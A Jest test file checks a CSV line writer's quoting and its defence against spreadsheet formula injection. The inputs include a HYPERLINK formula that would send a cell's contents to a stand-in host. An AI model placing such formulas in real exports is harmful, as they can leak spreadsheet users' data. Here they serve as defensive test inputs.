import { describe, expect, it } from '@jest/globals';
import { csvLine } from './csv.ts';

describe('a line of a table', () => {
  it('ends with CRLF, and parts its fields by commas', () => {
    expect(csvLine(['a', 1, null, 'b'])).toBe('a,1,,b\r\n');
  });

  it.each([
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['', ''],
  ])('quotes what would break it: %j', (text, written) => {
    expect(csvLine([text])).toBe(`${written}\r\n`);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '=HYPERLINK("https://a.example?x="&A1,"b")'])(
    'keeps a spreadsheet from carrying out words of others: %j',
    (text) => {
      expect(csvLine([text])).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
    },
  );

  it('leaves a number of ours a number', () => {
    expect(csvLine([-1, 2.5])).toBe('-1,2.5\r\n');
  });
});
